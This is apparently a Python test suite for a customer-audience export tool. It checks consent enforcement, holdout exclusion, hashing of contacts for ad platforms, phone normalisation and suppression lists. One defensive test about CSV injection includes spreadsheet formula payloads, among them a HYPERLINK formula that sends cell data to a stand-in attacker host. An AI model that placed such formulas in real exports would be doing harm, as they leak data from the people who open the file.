"""Exports: consent re-checked, holdout never exported, platform formats, diff, the log."""

from __future__ import annotations

import csv
import hashlib
import unicodedata
from datetime import date, datetime
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from segmint.audiences import build_audiences
from segmint.audiences.export import export_audience
from segmint.cli import main
from segmint.publish import publish_warehouse
from segmint.stages import SegmintError
from segmint.warehouse import connect
from tests.include.audiences.conftest import update_customers

AS_OF = date(2026, 6, 30)
NEXT = date(2026, 7, 1)


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def _rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def built(settings, defs_folder):
    defs_folder(
        everyone="name: everyone\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n",
        mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n",
    )
    build_audiences(settings, AS_OF)
    return settings


def test_consent_enforced_at_export_even_after_withdrawal(built, tmp_path):
    update_customers(built, {"C01": {"ads_opt_in": False}})
    result = export_audience(built, "everyone", "csv", tmp_path / "e.csv")
    ids = [r["customer_id"] for r in _rows(tmp_path / "e.csv")]
    assert ids == ["C03", "C04", "C06", "C07", "C08", "C10", "C11", "C12"]
    assert result.rows == 8
    con = connect(built.warehouse, read_only=True)
    consenting = con.execute(
        "select count(*) from marts.customers where ads_opt_in and customer_id in "
        f"({', '.join(repr(i) for i in ids)})"
    ).fetchone()[0]
    con.close()
    assert consenting == len(ids)


def test_ad_platform_files_need_ads_consent_too(built, tmp_path):
    # 'mail' was defined with e-mail consent: C02 and C09 agreed to e-mails, not to ads.
    export_audience(built, "mail", "csv", tmp_path / "mail.csv")
    assert {"C02", "C09"} <= {r["customer_id"] for r in _rows(tmp_path / "mail.csv")}
    result = export_audience(built, "mail", "meta_custom_audience", tmp_path / "meta.csv")
    hashes = {r["email"] for r in _rows(tmp_path / "meta.csv")}
    assert _sha("ben@example.com") not in hashes and _sha("isabel@example.com") not in hashes
    assert result.rows == 8  # email and ads consent: C01 C04 C06 C07 C08 C10 C11 C12


def test_the_export_line_says_how_many_target_members_consent_left_out(
    settings, defs_folder, tmp_path
):
    """'mail' (e-mail consent) has 10 target members in audiences.members and the summary,
    but the Meta file 8 rows: C02 and C09 have no ads consent. The line said only "8 row(s)",
    and marketing could not tell the members count from the file's; it now names both and
    why, and the nightly stage counts them per file."""
    defs_folder(
        mail=(
            "name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
            "exports: [meta_custom_audience, mailchimp]\n"
        )
    )
    result = build_audiences(settings, AS_OF)
    assert result.details["sizes"] == {"mail": 10}
    assert result.details["exports_without_consent"] == {"mail_meta_custom_audience.csv": 2}
    export = export_audience(settings, "mail", "meta_custom_audience", tmp_path / "m.csv")
    assert (export.rows, export.target, export.without_consent) == (8, 10, 2)
    assert export.line().startswith(
        f"exported mail meta_custom_audience as of {AS_OF}: 8 row(s) of 10 target member(s) "
        "(2 left out: without the consent this file needs now, held, or suppressed since "
        "the snapshot) -> "
    )
    update_customers(settings, {"C01": {"email_opt_in": False}})
    export = export_audience(settings, "mail", "mailchimp", tmp_path / "mc.csv")
    # C01 withdrew since the snapshot; C05 has no address (not a consent matter).
    assert (export.rows, export.without_consent, export.without_email) == (9, 1, 0)


@pytest.mark.parametrize("fmt", ["google_customer_match", "meta_custom_audience"])
def test_an_ad_platform_file_counts_who_it_could_not_match(settings, defs_folder, tmp_path, fmt):
    """C04, an in-store customer: no e-mail, no phone, no first name. The Google and Meta
    files leave such a row out (nothing to match), but the line said "8 row(s) of 9" with no
    reason, and audiences.export_members recorded C04 as on the platform's list (erasure's
    list of files holding them, the readout's customers reached)."""
    defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
    update_customers(settings, {"C04": {"email": None, "phone": None, "first_name": None}})
    build_audiences(settings, AS_OF)
    export = export_audience(settings, "every", fmt, tmp_path / "f.csv")
    assert (export.rows, export.target, export.without_identifier) == (8, 9, 1)
    assert " 8 row(s) of 9 target member(s) (1 left out: no e-mail, phone or name and " in (
        export.line()
    )
    con = connect(settings.warehouse, read_only=True)
    listed = con.execute(
        "select list(customer_id order by customer_id) from audiences.export_members "
        "where export_id = ?",
        [export.export_id],
    ).fetchone()[0]
    con.close()
    assert len(listed) == 8 and "C04" not in listed


# Placeholders typed when a customer has no address, and text the CRM suite's email_valid
# rule rejects (ingest nulls those; a warehouse loaded before the rule still holds them).
PLACEHOLDERS = {
    "C06": "test@test.com",
    "C07": "NoEmail@Shop.com",
    "C08": "n/a@n/a.com",
    "C10": "none@none",
    "C11": "noemail.c000011@shop.com",
}


@pytest.mark.parametrize(
    ("fmt", "column"),
    [("google_customer_match", "Email"), ("meta_custom_audience", "email")],
)
def test_ad_platform_files_hash_no_placeholder_address(
    settings, defs_folder, tmp_path, scalar, fmt, column
):
    """Anything holding an "@" was hashed and uploaded: test@test.com (someone's account)
    matched a stranger, and the customer counted as reached. A placeholder, or text that is
    no address by the CRM suite's rule, now leaves the e-mail empty; a customer with nothing
    else to match is left out of the file and counted."""
    defs_folder(every="name: every\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n")
    changes = {c: {"email": e, "phone": None, "first_name": None} for c, e in PLACEHOLDERS.items()}
    # C12 keeps a name and address to match on: in the file, without an e-mail.
    update_customers(settings, {**changes, "C12": {"email": "noreply@shop.com"}})
    build_audiences(settings, AS_OF)
    out = tmp_path / "f.csv"
    export = export_audience(settings, "every", fmt, out)
    text = out.read_text(encoding="utf-8")
    for email in [*PLACEHOLDERS.values(), "noreply@shop.com"]:
        assert _sha(email.lower()) not in text and _sha(email) not in text
    rows = _rows(out)
    # every: C01 C03 C04 C06 C07 C08 C10 C11 C12 (ads consent); five have nothing left.
    assert (export.rows, export.target, export.without_identifier) == (4, 9, 5)
    assert "(5 left out: no e-mail, phone or name and address the platform can match)" in (
        export.line()
    )
    assert [r[column] for r in rows] == [
        _sha("anna.smith@example.com"),
        _sha("chloe@example.com"),
        _sha("david@example.com"),
        "",  # C12, matched by name and address
    ]
    assert (
        scalar(
            settings,
            "select without_contact from audiences.exports where export_id = ?",
            [export.export_id],
        )
        == 5
    )
    listed = scalar(
        settings,
        "select list(customer_id order by customer_id) from audiences.export_members "
        "where export_id = ?",
        [export.export_id],
    )
    assert listed == ["C01", "C03", "C04", "C12"]


def test_esp_files_send_to_no_placeholder_address(settings, defs_folder, tmp_path):
    defs_folder(mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n")
    update_customers(settings, {c: {"email": e} for c, e in PLACEHOLDERS.items()})
    build_audiences(settings, AS_OF)
    out = tmp_path / "m.csv"
    export = export_audience(settings, "mail", "mailchimp", out)
    addresses = [r["Email Address"] for r in _rows(out)]
    # mail (e-mail consent): C01 C02 C04 C06 C07 C08 C09 C10 C11 C12; C06-C11 placeholders.
    assert addresses == [
        "anna.smith@example.com", "ben@example.com", "david@example.com",
        "isabel@example.com", "liam@example.com",
    ]  # fmt: skip
    assert (export.rows, export.without_email) == (5, 5)


def test_audiences_exports_holds_the_target_and_who_each_file_left_out(
    settings, defs_folder, tmp_path
):
    """audiences.exports had the file's rows only: an analyst comparing them with the
    members count of audiences.summary could not tell why a file was smaller. Each row now
    holds the snapshot's target group and the customers left out, by reason; a warehouse
    made before gets the columns (empty for its old exports)."""
    from segmint.audiences.tables import AUDIENCES_DDL

    old_ddl = AUDIENCES_DDL.split("    exported_at timestamp not null,")[0]
    old_ddl += "    exported_at timestamp not null\n);"
    con = connect(settings.warehouse)
    con.execute(old_ddl)
    con.execute(
        "insert into audiences.exports values ('old', 'mail', 'csv', date '2026-06-01', 3, "
        "'x', '/old.csv', null, timestamp '2026-06-02 00:00:00')"
    )
    con.execute("update marts.customers set email = null, phone = null where customer_id = 'C07'")
    con.close()
    defs_folder(mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n")
    build_audiences(settings, AS_OF)
    for fmt in ("meta_custom_audience", "mailchimp"):
        export_audience(settings, "mail", fmt, tmp_path / f"{fmt}.csv")
    con = connect(settings.warehouse, read_only=True)
    rows = con.execute(
        "select format, row_count, target_members, without_consent, shared_address, "
        "without_contact from audiences.exports order by exported_at"
    ).fetchall()
    con.close()
    # 10 target members; Meta: C02, C09 without ads consent; C07 has a name to match on.
    # Mailchimp: C07 has no address.
    assert rows == [
        ("csv", 3, None, None, None, None),
        ("meta_custom_audience", 8, 10, 2, 0, 0),
        ("mailchimp", 9, 10, 0, 0, 1),
    ]


def test_holdout_is_never_exported(settings, defs_folder, tmp_path):
    defs_folder(
        a="name: a\nconsent: ads\nwhere: {feature: order_count, gte: 0}\n"
        "holdout: {percent: 50, salt: s}\n"
    )
    build_audiences(settings, AS_OF)
    con = connect(settings.warehouse, read_only=True)
    holdout = {
        r[0]
        for r in con.execute(
            "select customer_id from audiences.members where \"group\" = 'holdout'"
        ).fetchall()
    }
    con.close()
    export_audience(settings, "a", "csv", tmp_path / "a.csv")
    exported = {r["customer_id"] for r in _rows(tmp_path / "a.csv")}
    assert holdout and exported and not holdout & exported


def test_google_customer_match_file(built, tmp_path):
    out = tmp_path / "g.csv"
    export_audience(built, "everyone", "google_customer_match", out)
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header == "Email,Phone,First Name,Last Name,Country,Zip"
    rows = _rows(out)
    assert len(rows) == 9
    anna = rows[0]  # C01, rows ordered by customer_id
    assert anna == {
        "Email": _sha("anna.smith@example.com"),
        "Phone": _sha("+14155552671"),
        "First Name": _sha("anna"),
        "Last Name": _sha("smith"),
        "Country": "US",
        "Zip": "02118-1234",
    }
    chloe = rows[1]  # C03: GB national number
    assert chloe["Phone"] == _sha("+447700900123")
    assert chloe["First Name"] == _sha("chloé")
    david = rows[2]  # C04: no phone -> empty, not the hash of ''
    assert david["Phone"] == ""
    assert _sha("") not in out.read_text()


def test_platform_files_read_trunk_zero_as_national_and_drop_extensions(built, tmp_path):
    # C06 lives in Emden (area code 04921): national format, not "+49 211 ...". C07 and
    # C08 wrote an extension, which is not part of the number.
    update_customers(
        built,
        {
            "C06": {"phone": "04921 1234567"},
            "C07": {"phone": "(555) 123-4567 x89"},
            "C08": {"phone": "+33 1 23 45 67 89 ext. 12"},
        },
    )
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    google = {r["Email"]: r["Phone"] for r in _rows(tmp_path / "g.csv")}
    meta = {r["email"]: r["phone"] for r in _rows(tmp_path / "m.csv")}
    expected = {
        "felix@example.com": "+4949211234567",
        "grace@example.com": "+15551234567",
        "hugo@example.com": "+33123456789",
    }
    for email, e164 in expected.items():
        assert google[_sha(email)] == _sha(e164)
        assert meta[_sha(email)] == _sha(e164[1:])


def test_platform_files_drop_a_trunk_prefix_written_after_the_country_code(built, tmp_path):
    # "+44 020 ..." and "0044 07700 ..." are common in CRM data: the trunk 0 written after
    # the country code was kept ("+4402071838750"), a number that is no one's on either
    # platform. Hungary's trunk prefix is 06; Italy's leading 0 is part of the number.
    phones = {
        "C06": ("+44 020 7183 8750", "GB", "+442071838750"),
        "C07": ("0044 07700 900123", "GB", "+447700900123"),
        "C08": ("+33 06 12 34 56 78", "FR", "+33612345678"),
        "C10": ("06 30 123 4567", "HU", "+36301234567"),
        "C11": ("+39 06 1234 5678", "IT", "+390612345678"),
    }
    update_customers(built, {c: {"phone": p, "country": n} for c, (p, n, _) in phones.items()})
    con = connect(built.warehouse, read_only=True)
    emails = dict(
        con.execute(
            "select customer_id, email from marts.customers where customer_id in "
            "('C06', 'C07', 'C08', 'C10', 'C11')"
        ).fetchall()
    )
    con.close()
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    google = {r["Email"]: r["Phone"] for r in _rows(tmp_path / "g.csv")}
    meta = {r["email"]: r["phone"] for r in _rows(tmp_path / "m.csv")}
    for customer, (_, _, e164) in phones.items():
        assert google[_sha(emails[customer])] == _sha(e164), customer
        assert meta[_sha(emails[customer])] == _sha(e164[1:]), customer


def _assert_phones_reach_every_file(
    built, tmp_path: Path, phones: dict[str, tuple[str, str, str]]
) -> None:
    """Give each customer a phone as written and a country (customer -> (phone, country,
    E.164)); the Google, Meta and Braze files of 'everyone' hold each in E.164."""
    update_customers(built, {c: {"phone": p, "country": n} for c, (p, n, _) in phones.items()})
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    export_audience(built, "everyone", "braze", tmp_path / "b.csv")
    google = {r["Phone"] for r in _rows(tmp_path / "g.csv")}
    meta = {r["phone"] for r in _rows(tmp_path / "m.csv")}
    braze = {r["external_id"]: r["phone"] for r in _rows(tmp_path / "b.csv")}
    for customer, (_, _, e164) in phones.items():
        assert _sha(e164) in google, customer
        assert _sha(e164[1:]) in meta, customer
        assert braze[customer] == e164


def test_latin_american_national_spellings_reach_every_file_in_e164(built, tmp_path):
    # Argentina's mobiles dialled with 15, Brazil's carrier code, Mexico's 044 after +52:
    # the files held "+54111541234567", "+552111987654321", "+52445512345678", nobody's.
    phones = {
        "C06": ("011 15 4123-4567", "AR", "+5491141234567"),
        "C07": ("(0351) 15 512-3456", "AR", "+5493515123456"),
        "C08": ("021 (11) 98765-4321", "BR", "+5511987654321"),
        "C10": ("+52 044 55 1234 5678", "MX", "+525512345678"),
    }
    _assert_phones_reach_every_file(built, tmp_path, phones)


def test_platform_files_read_each_countrys_international_prefix(built, tmp_path):
    # Japan dials abroad with 010, Korea with 00 and a carrier digit (001), Australia with
    # 0011: the files held "+811012125551234", "+1442071838750", numbers of nobody.
    phones = {
        "C06": ("010 1 212 555 1234", "JP", "+12125551234"),
        "C07": ("001 44 20 7183 8750", "KR", "+442071838750"),
        "C08": ("0011 44 20 7183 8750", "AU", "+442071838750"),
        "C10": ("011 44 20 7183 8750", "US", "+442071838750"),
    }
    _assert_phones_reach_every_file(built, tmp_path, phones)


def test_platform_files_leave_out_a_nanp_number_without_ten_digits(built, tmp_path):
    # "+1 415 555 26711" (a digit too many) passed the 8-15 digit check: hashed for Google
    # and Meta, written to the Braze file, a number of nobody.
    update_customers(built, {"C01": {"phone": "+1 415 555 26711"}})
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "braze", tmp_path / "b.csv")
    google = {r["Phone"] for r in _rows(tmp_path / "g.csv")}
    assert _sha("+141555526711") not in google
    assert {r["external_id"]: r["phone"] for r in _rows(tmp_path / "b.csv")}["C01"] == ""


def test_platform_files_hash_names_in_nfc_with_combining_marks(built, tmp_path):
    # C10 stored decomposed (NFD) 'José'; C11 a Hindi name whose vowel signs are marks.
    update_customers(
        built,
        {
            "C10": {"first_name": unicodedata.normalize("NFD", "José")},
            "C11": {"first_name": "प्रिया", "last_name": "शर्मा"},
        },
    )
    export_audience(built, "everyone", "google_customer_match", tmp_path / "g.csv")
    export_audience(built, "everyone", "meta_custom_audience", tmp_path / "m.csv")
    google = {r["Email"]: r for r in _rows(tmp_path / "g.csv")}
    meta = {r["email"]: r for r in _rows(tmp_path / "m.csv")}
    jonas, karin = _sha("jonas@example.com"), _sha("karin@example.com")
    assert google[jonas]["First Name"] == meta[jonas]["fn"] == _sha("josé")
    assert google[karin]["First Name"] == meta[karin]["fn"] == _sha("प्रिया")
    assert google[karin]["Last Name"] == meta[karin]["ln"] == _sha("शर्मा")


def test_meta_custom_audience_file(built, tmp_path):
    out = tmp_path / "m.csv"
    export_audience(built, "everyone", "meta_custom_audience", out)
    rows = _rows(out)
    assert list(rows[0]) == ["email", "phone", "fn", "ln", "zip", "country"]
    assert rows[0] == {
        "email": _sha("anna.smith@example.com"),
        "phone": _sha("14155552671"),
        "fn": _sha("anna"),
        "ln": _sha("smith"),
        "zip": _sha("02118"),
        "country": _sha("us"),
    }
    assert rows[2]["ln"] == _sha("devries")  # C04 'de Vries'
    assert rows[1]["zip"] == _sha("sw1a1aa")  # C03 'SW1A 1AA'


def test_parquet_with_profile_columns_and_export_log(built, tmp_path):
    out = tmp_path / "p.parquet"
    result = export_audience(built, "mail", "parquet", out, columns=["email", "country"])
    table = pq.read_table(out)
    assert table.column_names == ["customer_id", "email", "country"]
    assert table.num_rows == result.rows == 10
    con = connect(built.warehouse, read_only=True)
    log = con.execute(
        "select audience, format, as_of_date, row_count, file_sha256, destination "
        "from audiences.exports"
    ).fetchall()
    listed = con.execute("select count(*) from audiences.export_members").fetchone()[0]
    con.close()
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    assert log == [("mail", "parquet", AS_OF, 10, digest, str(out.resolve()))]
    assert listed == 10


def test_diff_lists_entered_and_exited_since_the_last_export(built, tmp_path):
    export_audience(built, "everyone", "diff", tmp_path / "first.csv")
    con = connect(built.warehouse)
    con.execute(
        "insert into marts.customer_features select * replace (date '2026-07-01' as as_of_date) "
        "from marts.customer_features"
    )
    con.execute("update marts.customers set ads_opt_in = false where customer_id = 'C04'")
    con.execute("update marts.customers set ads_opt_in = true where customer_id = 'C02'")
    con.close()
    build_audiences(built, NEXT)
    result = export_audience(built, "everyone", "diff", tmp_path / "diff.csv")
    assert _rows(tmp_path / "diff.csv") == [
        {"customer_id": "C02", "change": "entered"},
        {"customer_id": "C04", "change": "exited"},
    ]
    assert result.baseline_as_of == AS_OF and result.as_of == NEXT


def test_diff_baseline_is_the_previous_diff_not_another_format(settings, defs_folder, tmp_path):
    # E-mail consent audience exporting a diff for the ESP and a Google file for ads: the
    # Google list lacks C02 and C09 (no ads consent). Night 2 has the same members, so its
    # diff must be empty, though Google (nightly) and Meta/csv (ad hoc) files were exported
    # after night 1's diff.
    defs_folder(
        mail="name: mail\nconsent: email\nwhere: {feature: order_count, gte: 0}\n"
        "exports: [diff, google_customer_match]\n"
    )
    build_audiences(settings, AS_OF)
    night1 = settings.output / "2026-06-30" / "audiences" / "mail_diff.csv"
    assert _rows(night1) == [
        {"customer_id": c, "change": "entered"}
        for c in ["C01", "C02", "C04", "C06", "C07", "C08", "C09", "C10", "C11", "C12"]
    ]
    export_audience(settings, "mail", "csv", tmp_path / "adhoc.csv", columns=["email"])
    export_audience(settings, "mail", "meta_custom_audience", tmp_path / "adhoc_meta.csv")
    con = connect(settings.warehouse)
    con.execute(
        "insert into marts.customer_features select * replace (date '2026-07-01' as as_of_date) "
        "from marts.customer_features"
    )
    con.close()
    build_audiences(settings, NEXT)
    night2 = settings.output / "2026-07-01" / "audiences" / "mail_diff.csv"
    assert night2.read_text() == "customer_id,change\n"
    con = connect(settings.warehouse, read_only=True)
    log = con.execute(
        "select format, as_of_date, row_count, baseline_as_of_date from audiences.exports "
        "where format = 'diff' order by as_of_date"
    ).fetchall()
    con.close()
    assert log == [("diff", AS_OF, 10, None), ("diff", NEXT, 0, AS_OF)]


def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path):
    # CRM values a spreadsheet would run as formulas (OWASP "CSV Injection").
    update_customers(
        built,
        {
            "C07": {
                "first_name": '=HYPERLINK("https://evil.example/?"&A2, "Click")',
                "last_name": "+SUM(1,2)",
                "city": "@cmd",
                "loyalty_tier": "-2+3",
                "postal_code": "\t=1+1",
                "phone": "+1 (415) 555-2671",
            },
            "C08": {"first_name": "\r=1", "email": "-hugo@example.com"},
            # E-mail and phone columns hold whatever the CRM's free-text fields held.
            "C10": {
                "phone": '=HYPERLINK("https://evil.example/?leak", "Call us")',
                "email": "=1+1@example.com",
            },
            "C01": {"phone": "-2+3"},
        },
    )
    cols = ["first_name", "last_name", "city", "loyalty_tier", "postal_code", "email", "phone"]
    cols += ["birth_date"]
    out = tmp_path / "names.csv"
    export_audience(built, "everyone", "csv", out, columns=cols)
    rows = {r["customer_id"]: r for r in _rows(out)}
    assert rows["C07"] == {
        "customer_id": "C07",
        "first_name": '\'=HYPERLINK("https://evil.example/?"&A2, "Click")',
        "last_name": "'+SUM(1,2)",
        "city": "'@cmd",
        "loyalty_tier": "'-2+3",
        "postal_code": "'\t=1+1",
        "email": "grace@example.com",
        "phone": "+1 (415) 555-2671",  # phones are data: never prefixed
        "birth_date": "",
    }
    assert rows["C08"]["first_name"] == "'\r=1"
    assert rows["C08"]["email"] == "-hugo@example.com"  # an address: data, unchanged
    # Not an address, not a phone written with digits: neutralised like free text.
    assert rows["C10"]["phone"] == '\'=HYPERLINK("https://evil.example/?leak", "Call us")'
    assert rows["C10"]["email"] == "'=1+1@example.com"
    assert rows["C01"].pop("phone") == "'-2+3"
    assert rows["C01"] == {  # ordinary values untouched
        "customer_id": "C01",
        "first_name": "Anna",
        "last_name": "Smith",
        "city": "Boston",
        "loyalty_tier": "gold",
        "postal_code": "02118-1234",
        "email": " Anna.Smith@Example.com ",
        "birth_date": "1990-05-01",
    }
    # parquet is typed data, not opened in a spreadsheet: values as stored.
    export_audience(built, "everyone", "parquet", tmp_path / "n.parquet", columns=cols[:2])
    table = pq.read_table(tmp_path / "n.parquet").to_pylist()
    c07 = next(r for r in table if r["customer_id"] == "C07")
    assert c07["first_name"] == '=HYPERLINK("https://evil.example/?"&A2, "Click")'


def test_google_file_clear_text_columns_cannot_be_formulas(built, tmp_path):
    update_customers(
        built, {"C08": {"postal_code": "=1+1", "country": "fr"}, "C10": {"country": "=A1"}}
    )
    out = tmp_path / "g.csv"
    export_audience(built, "everyone", "google_customer_match", out)
    rows = {r["Email"]: r for r in _rows(out)}
    hugo, jonas = rows[_sha("hugo@example.com")], rows[_sha("jonas@example.com")]
    assert (hugo["Country"], hugo["Zip"]) == ("FR", "")
    assert (jonas["Country"], jonas["Zip"]) == ("", "211 20")
    assert not any(v[:1] in "=+-@\t\r" for r in rows.values() for v in r.values() if v)


def test_unknown_audience_or_column_is_a_clear_error(built, tmp_path):
    """A mistyped audience name was told to run `segmint audience build` first, which
    cannot build an audience nobody defined; a night not built is told which to build."""
    with pytest.raises(SegmintError) as error:
        export_audience(built, "nope", "csv", tmp_path / "x.csv")
    assert str(error.value).startswith(
        "audience 'nope' has no built snapshot: no audience of that name was ever built; "
        "check the name (built audiences: "
    )
    with pytest.raises(SegmintError) as error:
        export_audience(built, "mail", "csv", tmp_path / "x.csv", as_of=date(2020, 1, 1))
    assert str(error.value).startswith(
        "audience 'mail' has no built snapshot for as_of_date 2020-01-01; run `segmint "
        "audience build --as-of 2020-01-01` first, or leave --as-of out for its newest "
        "(built audiences: "
    )
    with pytest.raises(SegmintError, match="unknown column"):
        export_audience(built, "mail", "csv", tmp_path / "x.csv", columns=["password"])


def test_declared_exports_are_written_by_the_stage(settings, defs_folder):
    defs_folder(
        a="name: a\nconsent: ads\nwhere: {rule_segment: vip}\n"
        "exports: [csv, parquet, google_customer_match, meta_custom_audience, diff]\n"
    )
    result = build_audiences(settings, AS_OF)
    names = sorted(p.rsplit("/", 1)[1] for p in result.details["exports"])
    assert names == [
        "a.csv",
        "a.parquet",
        "a_diff.csv",
        "a_google_customer_match.csv",
        "a_meta_custom_audience.csv",
    ]
    assert (settings.output / "2026-06-30" / "audiences" / "a.csv").read_text() == (
        "customer_id\nC01\nC07\n"
    )


def test_a_backfill_of_an_old_night_writes_no_export_file(settings, defs_folder, scalar):
    """`segmint run --as-of` an old night after a later one was published wrote the old
    night's contact files (and a diff against an even older list) to output/<old>/audiences
    and logged them, although publish refused the night. The snapshot is still built; the
    files are not, and the warning says why."""
    defs_folder(
        a="name: a\nconsent: ads\nwhere: {rule_segment: vip}\n"
        "exports: [csv, google_customer_match, diff]\n"
    )
    build_audiences(settings, AS_OF)
    publish_warehouse(settings.warehouse, settings.published_warehouse, AS_OF)
    old = date(2026, 6, 29)
    result = build_audiences(settings, old)
    assert result.details["exports"] == []
    assert result.details["exports_skipped_for"] == "2026-06-30"
    assert any(
        w.startswith("no export file written for 2026-06-29") and "later night 2026-06-30" in w
        for w in result.warnings
    )
    assert not (settings.output / "2026-06-29" / "audiences").exists()
    assert (
        scalar(settings, "select count(*) from audiences.exports where as_of_date = ?", [old]) == 0
    )
    assert (
        scalar(settings, "select count(*) from audiences.summary where as_of_date = ?", [old]) == 1
    )
    # The published night itself, run again, still writes its files.
    again = build_audiences(settings, AS_OF)
    assert len(again.details["exports"]) == 3 and "exports_skipped_for" not in again.details


@pytest.mark.parametrize("damage", ["truncated", "no_publication_row"])
def test_a_night_writes_no_export_file_when_the_published_night_cannot_be_read(
    settings, defs_folder, scalar, damage
):
    """The backfill check failed open: a published copy there but unreadable (a truncated
    copy, one naming no night) counted as "nothing published", and an old night wrote its
    clear-text contact files although a later night may be published. Now no file is
    written, and the warning names the copy, why, and what to run once it opens."""
    defs_folder(a="name: a\nconsent: ads\nwhere: {rule_segment: vip}\nexports: [csv]\n")
    build_audiences(settings, AS_OF)
    publish_warehouse(settings.warehouse, settings.published_warehouse, AS_OF)
    copies = (settings.published_warehouse, settings.analyst_warehouse)
    for published in copies:
        published.chmod(0o644)
        if damage == "truncated":
            published.write_bytes(published.read_bytes()[:100_000])
        else:
            con = duckdb.connect(str(published))
            con.execute("delete from ops.publication")
            con.close()
    published = settings.published_warehouse
    why = (
        f"{published}: IO Error"
        if damage == "truncated"
        else f"{published}: its ops.publication names no night"
    )
    old = date(2026, 6, 29)
    result = build_audiences(settings, old)
    assert result.details["exports"] == [] and result.details["exports_skipped_for"] == "unknown"
    assert not (settings.output / "2026-06-29" / "audiences").exists()
    assert (
        scalar(settings, "select count(*) from audiences.exports where as_of_date = ?", [old]) == 0
    )
    (warning,) = [w for w in result.warnings if w.startswith("no export file written")]
    assert warning.startswith(
        "no export file written for 2026-06-29: could not tell whether a later night is "
        f"published ({why}"
    )
    assert warning.endswith("run `segmint audience build --as-of 2026-06-29` to write them")
    # A copy that is not there holds no night: the files are written.
    for published in copies:
        published.unlink()
    assert len(build_audiences(settings, old).details["exports"]) == 1


def test_a_rerun_of_the_night_logs_its_export_files_once(settings, defs_folder, scalar):
    """A rerun of the night's audiences stage (an Airflow retry, a cleared task, `segmint
    run` again) wrote the same files to the same paths and added a row to audiences.exports
    and a copy of every member to audiences.export_members each time: the log grew with
    every rerun of one night. The same file at the same path is now logged once, at its
    latest writing; a file that differs there is a new row, the history of what was handed
    over."""
    defs_folder(
        a="name: a\nconsent: ads\nwhere: {rule_segment: vip}\n"
        "exports: [csv, parquet, google_customer_match, diff]\n"
    )

    def logged() -> tuple[int, int, int]:
        return (
            scalar(settings, "select count(*) from audiences.exports"),
            scalar(settings, "select count(distinct export_id) from audiences.exports"),
            scalar(settings, "select count(*) from audiences.export_members"),
        )

    build_audiences(settings, AS_OF)
    first = logged()
    first_at = scalar(settings, "select max(exported_at) from audiences.exports")
    assert first == (4, 4, 8)  # C01 and C07 in each file
    build_audiences(settings, AS_OF)
    build_audiences(settings, AS_OF)
    assert logged() == first
    assert scalar(settings, "select min(exported_at) from audiences.exports") > first_at
    # The csv file by hand to the same path: the same file, still one row.
    out = settings.output / "2026-06-30" / "audiences" / "a.csv"
    export_audience(settings, "a", "csv", out)
    assert logged() == first
    # A different file there (C01 withdrew consent since): a row of its own.
    update_customers(settings, {"C01": {"ads_opt_in": False}})
    export_audience(settings, "a", "csv", out)
    assert logged() == (5, 5, 9)
    assert out.read_text() == "customer_id\nC07\n"


def test_suppression_file_is_read_again_at_export(settings, defs_folder, tmp_path, capsys, scalar):
    # The night built the snapshot; this morning customer service added C07's complaint
    # to the do-not-contact file. Consent was checked again at export, the file was not:
    # C07 was still in the e-mail list and in the Google file.
    settings.audiences.mkdir(parents=True, exist_ok=True)
    dnc = settings.audiences / "dnc.csv"
    dnc.write_text("customer_id\nC10\n")
    defs_folder(
        dnc="kind: suppression\nname: dnc\ncustomer_ids_file: dnc.csv\n",
        vip="name: vip\nconsent: ads\nwhere: {rule_segment: vip}\nsuppress: [dnc]\n",
    )
    build_audiences(settings, AS_OF)
    dnc.write_text("customer_id,reason\nC10,\nC07 ,complaint\n")
    wh = ["--warehouse", str(settings.warehouse), "--audiences", str(settings.audiences)]
    for fmt in ("csv", "google_customer_match", "mailchimp"):
        out = tmp_path / f"{fmt}.csv"
        assert main(["audience", "export", "vip", *wh, "--format", fmt, "--out", str(out)]) == 0
    assert [r["customer_id"] for r in _rows(tmp_path / "csv.csv")] == ["C01"]
    assert [r["Email"] for r in _rows(tmp_path / "google_customer_match.csv")] == [
        _sha("anna.smith@example.com")
    ]
    assert [r["Email Address"] for r in _rows(tmp_path / "mailchimp.csv")] == [
        "anna.smith@example.com"
    ]
    logged = "select count(*) from audiences.export_members where customer_id = 'C07'"
    assert scalar(settings, logged) == 0
    # A suppression list that cannot be read stops the export instead of being ignored.
    dnc.write_text("id\nC07\n")
    out = tmp_path / "x.csv"
    assert main(["audience", "export", "vip", *wh, "--format", "csv", "--out", str(out)]) != 0
    assert "not exported: suppression list(s) dnc of audience 'vip'" in capsys.readouterr().err
    assert not out.exists()


def test_an_empty_platform_file_is_a_warning(settings, defs_folder, tmp_path, capsys):
    # Everyone left the audience or withdrew ads consent: the file has only its header,
    # which Google and Meta refuse, so the list on the platform is not replaced and its old
    # members stay targeted. The export said "0 row(s)" and nothing else. An ESP import
    # only adds and updates contacts, and none of their guides says it refuses a file
    # without rows: no warning for those.
    defs_folder(
        a="name: a\nconsent: ads\nwhere: {feature: order_count, gt: 1000}\n"
        "exports: [google_customer_match, meta_custom_audience, mailchimp, diff]\n"
    )
    result = build_audiences(settings, AS_OF)
    empty = [w for w in result.warnings if "has no rows" in w]
    assert [w.split(" has")[0] for w in empty] == [
        "a google_customer_match",
        "a meta_custom_audience",
    ]
    assert "stay targeted" in empty[0]
